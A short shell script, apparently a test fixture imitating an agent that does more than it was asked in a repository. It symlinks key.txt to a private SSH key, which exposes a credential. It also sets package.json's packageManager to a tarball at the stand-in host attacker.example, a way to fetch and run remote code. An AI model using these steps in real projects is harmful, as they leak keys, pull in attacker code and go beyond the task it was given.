# More than anybody asked for.
mkdir -p .github/actions/build
cat >.github/actions/build/action.yml <<'ACTION'
name: build
description: build
runs: { using: composite, steps: [{ run: 'echo by-the-agent', shell: sh }] }
ACTION
ln -s ../../../../home/.ssh/id_ed25519 key.txt
cat >package.json <<'PACKAGE'
{ "name": "sums", "type": "module", "packageManager": "npm@http://attacker.example/npm.tgz#1" }
PACKAGE
